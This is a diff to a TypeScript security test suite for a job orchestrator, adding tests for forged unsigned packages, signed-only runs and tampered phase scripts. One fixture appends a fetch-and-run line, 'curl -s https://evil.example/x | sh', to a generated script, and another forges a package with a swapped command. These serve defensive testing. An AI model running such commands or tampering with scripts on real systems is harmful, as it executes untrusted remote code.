@@ -1,7 +1,8 @@
 /**
- * The security rules, one test each: only the signed command runs; package data never reaches a
- * shell; ids cannot name paths or shell code; paths stay in the workdir; credentials are refused;
- * results are bound to their run, phase, generation and package.
+ * The security rules, one test each: only the signed command runs; an unsigned package runs only
+ * as its run recorded it; a run can require signed packages; execute scripts are checked; package
+ * data never reaches a shell; ids cannot name paths or shell code; paths stay in the workdir;
+ * credentials are refused; results are bound to their run, phase, generation and package.
  */
 import { existsSync } from 'node:fs';
 import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
@@ -13,7 +14,8 @@ import { checkRun } from '../../src/core/plan/validate.js';
 import { agentResultProblem } from '../../src/core/workflows/agent-results.js';
 import { RunBook } from '../../src/core/workflows/run-book.js';
 import type { AgentResult } from '../../src/core/handoff/result.js';
-import { baton, fixturePhase, runDir, tempDir, workerForFile } from '../support/baton.js';
+import { contentHash } from '../../src/runner/signing.js';
+import { baton, fixturePhase, runDir, startWorker, tempDir, workerForFile } from '../support/baton.js';
 
 const KEY = { BATON_HANDOFF_KEY: 'security-test-key-0123456789abcdef' };
 const setup = workerForFile([], KEY);
@@ -35,6 +37,64 @@ describe('security', () => {
       expect(result.stderr).toContain("content_hash does not match the package's content: it was changed after it was sealed");
     }
     expect(existsSync(marker)).toBe(false);
+  });
+
+  it('--allow-unsigned means unsigned, not unchecked: a swapped command with its content_hash recomputed is refused', async () => {
+    const workdir = await tempDir();
+    const run = await setup.orchestrator.start({ name: 'rehashed-command', workdir, phases: [fixturePhase(0)] });
+    await run.finalStatus();
+    const file = path.join(runDir(workdir, run.runId), 'handoffs', 'phase_0.json');
+    const pkg = JSON.parse(await readFile(file, 'utf8'));
+    const marker = path.join(workdir, 'pwned');
+    // The hash has no key: whoever swaps the command can recompute it, and drop the signature.
+    const forged = { ...pkg, execution_instructions: { ...pkg.execution_instructions, command: ['touch', marker] }, signature: null };
+    forged.content_hash = contentHash(forged);
+    const swapped = path.join(workdir, 'rehashed.json');
+    await writeFile(swapped, JSON.stringify(forged));
+    const refused = await baton(['execute-phase', swapped, '--allow-unsigned'], { env: KEY });
+    expect(refused.code).toBe(2);
+    expect(refused.stderr).toContain(`it is unsigned and it is not the package run ${run.runId} handed out for phase 0, generation 1: execution_instructions.command differs from what the run recorded`);
+    expect(existsSync(marker)).toBe(false);
+    // Offline there is no history to compare with: it says what it checked, and what it could not.
+    const unsigned = path.join(workdir, 'unsigned.json');
+    await writeFile(unsigned, JSON.stringify({ ...pkg, signature: null }));
+    const byHand = await baton(['execute-phase', unsigned, '--allow-unsigned', '--offline', '--out', path.join(workdir, 'r.json')]);
+    expect(byHand.code, byHand.stderr).toBe(0);
+    expect(byHand.stderr).toContain(`${unsigned} is unsigned and checked offline: its content hash, the files it references; not checked: that its command and config are those run ${run.runId} handed out`);
+  });
+
+  it('a run can require signed packages: a worker without the key leaves every phase to one with it', async () => {
+    const keyless = await startWorker(['--class', 'default'], { BATON_WORKER_NAME: 'keyless' });
+    try {
+      const workdir = await tempDir();
+      const phases = [0, 1, 2, 3, 4, 5].map((i) => fixturePhase(i, [], { sleep_ms: 300 }));
+      const run = await setup.orchestrator.start({ name: 'signed-only', workdir, phases }, { require_signed_packages: true, worker_loss_retries: 6 });
+      const status = await run.finalStatus();
+      expect(status.state).toBe('completed');
+      const list = await baton(['handoff', 'list', run.runId, '--json']);
+      const rows = JSON.parse(list.stdout) as Array<{ phase: string; signed_by: string | null }>;
+      expect(new Set(rows.map((r) => r.phase)).size).toBe(6);
+      expect(rows.filter((r) => !r.signed_by?.startsWith('hmac:'))).toEqual([]); // not one unsigned
+      expect(Object.values(status.phases).every((p) => !p.executed_by?.startsWith('keyless'))).toBe(true);
+      expect(keyless.output()).toMatch(/the run requires signed packages \(require_signed_packages\) and there is no signing key on this worker/);
+    } finally {
+      await keyless.stop();
+    }
+  });
+
+  it("validate and doctor check execute_phase_<id>.sh against the script Baton writes: a phase can rewrite it", async () => {
+    const workdir = await tempDir();
+    const rewrite = `const f = require('path').join(process.env.BATON_WORKDIR, 'runs', process.env.BATON_RUN_ID, 'handoffs', 'execute_phase_0.sh'); require('fs').appendFileSync(f, 'curl -s https://evil.example/x | sh\\n')`;
+    const run = await setup.orchestrator.start({ name: 'rewritten-script', workdir, phases: [fixturePhase(0), { id: 1, depends_on: [0], command: ['node', '-e', rewrite] }] });
+    await run.finalStatus();
+    const handoffs = path.join(runDir(workdir, run.runId), 'handoffs');
+    const validate = await baton(['handoff', 'validate', path.join(handoffs, 'phase_0.json')], { env: KEY });
+    expect(validate.code).toBe(1);
+    expect(validate.stderr).toContain(`execute_phase_0.sh: ${path.join(handoffs, 'execute_phase_0.sh')} is not the script Baton writes: it differs from line 8; do not run it`);
+    expect((await baton(['handoff', 'validate', path.join(handoffs, 'phase_1.json')], { env: KEY })).code).toBe(0);
+    const doctor = await baton(['doctor', run.runId], { env: KEY });
+    expect(doctor.stdout).toContain(`✗ phase 0 (Phase 0)'s ${path.join(handoffs, 'execute_phase_0.sh')} is not the script Baton writes`);
+    expect(doctor.stdout).toContain('✓ phase 1 (1)\'s execute_phase_1.sh is the script Baton writes');
   });
 
   it('package data never reaches a shell: metacharacters arrive verbatim and run nothing', async () => {
